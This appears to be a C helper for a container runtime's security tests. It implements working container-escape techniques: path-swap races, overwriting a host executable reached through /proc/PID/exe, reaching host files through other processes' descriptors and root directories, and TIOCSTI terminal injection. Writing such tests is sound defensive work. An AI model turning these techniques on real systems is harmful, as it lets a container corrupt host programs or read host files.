/* attack MODE...: what a hostile process does, for test/it/cve_paths.bats and
 * test/hostile/hostile: the parts of an attack that no shell is quick enough
 * for, or has no words for. Built static, as it runs inside containers. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 1
struct mount_attr {
	unsigned long long attr_set, attr_clr, propagation, userns_fd;
};
#endif

enum { MAX_KEPT = 4000 };

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static volatile sig_atomic_t stopped;

static void stop(int sig)
{
	stopped = sig;
}

/* swap SECONDS A B [A B]...: exchanges each A and B all the while, at a pace
 * that changes, and leaves them as they were. */
static int swap(double end, char **pair, int n)
{
	unsigned long rounds = 0;

	signal(SIGTERM, stop);
	prctl(PR_SET_PDEATHSIG, SIGTERM);
	while ((now() < end && !stopped) || rounds % 2) {
		for (int i = 0; i + 1 < n; i += 2)
			renameat2(AT_FDCWD, pair[i], AT_FDCWD, pair[i + 1], RENAME_EXCHANGE);
		rounds++;
		usleep((useconds_t)(rounds * 7919 % 120));
	}
	return 0;
}

static int number(const char *s)
{
	return *s && strspn(s, "0123456789") == strlen(s) ? atoi(s) : -1;
}

/* Everything that could make a file writable that is held by `fd` only. */
static int write_to(int fd)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	char path[64];
	int w, r = 0;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr);
	mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	mount(NULL, path, NULL, MS_REMOUNT, NULL);
	chmod(path, 0777);
	w = open(path, O_WRONLY | O_CLOEXEC);
	if (w >= 0)
		r = pwrite(w, "BROKEN", 6, 0) == 6;
	if (w >= 0)
		close(w);
	return r;
}

/* exe SECONDS DEVICE:INODE: keeps that file by O_PATH wherever a process executes
 * it, and tries to write to it all the while, as it runs and after. Never another
 * file: with such capabilities a container can spoil the programs of the host. */
static int exe(double end, const char *victim)
{
	static int kept[MAX_KEPT];
	unsigned long dev, ino;
	int k = 0, wrote = 0;

	if (sscanf(victim, "%lu:%lu", &dev, &ino) != 2)
		return 1;
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			char path[300];
			struct stat st;
			int fd, pid = number(e->d_name);

			if (pid <= 0 || pid == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0 || fstat(fd, &st) < 0) {
				if (fd >= 0)
					close(fd);
				continue;
			}
			if (st.st_dev != dev || st.st_ino != ino) {
				close(fd);
				continue;
			}
			wrote += write_to(fd);
			if (k < MAX_KEPT)
				kept[k++] = fd;
			else
				close(fd);
		}
		if (d)
			closedir(d);
		if (k) /* the latest may have ended */
			wrote += write_to(kept[k - 1]);
	}
	for (int i = 0; i < k; i++)
		wrote += write_to(kept[i]);
	printf("kept %d, wrote %d\n", k > 0, wrote);
	return 0;
}

static int reads(const char *path)
{
	char buf[64];
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);

	if (fd >= 0)
		close(fd);
	return n > 0;
}

/* fds SECONDS FILE: a file of the host, looked for by way of whatever other
 * processes hold: their descriptors, working and root directories. */
static int fds(double end, const char *file)
{
	unsigned long looked = 0;

	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			char path[PATH_MAX];
			int pid = number(e->d_name);

			if (pid <= 0 || pid == getpid())
				continue;
			for (int fd = -2; fd < 24; fd++) {
				if (fd < 0)
					snprintf(path, sizeof path, "/proc/%d/%s/../../../../../../../../../..%s",
						 pid, fd == -1 ? "cwd" : "root", file);
				else
					snprintf(path, sizeof path, "/proc/%d/fd/%d/../../../../../../../../../..%s",
						 pid, fd, file);
				if (reads(path)) {
					printf("reached %s\n", path);
					return 1;
				}
			}
			looked++;
		}
		if (d)
			closedir(d);
	}
	printf("looked %d, reached nothing\n", looked > 0);
	return 0;
}

/* sti: types into the terminal on standard input. */
static int sti(void)
{
	for (const char *s = "echo INJECTED\n"; *s; s++)
		if (ioctl(0, TIOCSTI, s) < 0) {
			printf("TIOCSTI: %s\n", strerror(errno));
			return 0;
		}
	printf("TIOCSTI: typed\n");
	return 1;
}

int main(int argc, char **argv)
{
	double end = argc > 2 ? now() + atof(argv[2]) : 0;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc > 4 && !strcmp(argv[1], "swap"))
		return swap(end, argv + 3, argc - 3);
	if (argc > 3 && !strcmp(argv[1], "exe"))
		return exe(end, argv[3]);
	if (argc > 3 && !strcmp(argv[1], "fds"))
		return fds(end, argv[3]);
	if (argc > 1 && !strcmp(argv[1], "sti"))
		return sti();
	fprintf(stderr, "usage: attack swap SECONDS A B... | "
			"exe SECONDS DEVICE:INODE | fds SECONDS FILE | sti\n");
	return 2;
}
